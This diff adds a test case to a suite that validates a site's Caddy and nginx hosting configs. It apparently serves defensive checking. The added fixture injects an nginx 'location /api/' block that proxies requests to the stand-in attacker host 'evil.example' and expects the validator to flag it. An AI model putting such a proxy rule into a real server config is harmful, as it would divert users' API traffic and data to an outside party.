@@ -86,6 +86,16 @@ test.for<[string, (site: string) => Promise<void> | void, RegExp]>([
     /caddy\/Caddyfile: does not refuse hosts that have no site/,
   ],
   [
+    'nginx that hands calls on to another host',
+    (site) =>
+      change(
+        `${site}/../hosting/nginx/${host}.conf`,
+        '    location / {',
+        '    location ^~ /api/ {\n        proxy_pass https://evil.example;\n    }\n\n    location / {',
+      ),
+    /nginx\/members\.birchmere\.uk\.example\.conf: hands \^~ \/api\/ on to https:\/\/evil\.example/,
+  ],
+  [
     'an old host that leads without the path',
     (site) => change(`${site}/../hosting/nginx/old.birchmere.example.conf`, '$request_uri', ''),
     /nginx\/old\.birchmere\.example\.conf: does not lead to https:\/\/members\.birchmere\.uk\.example/,
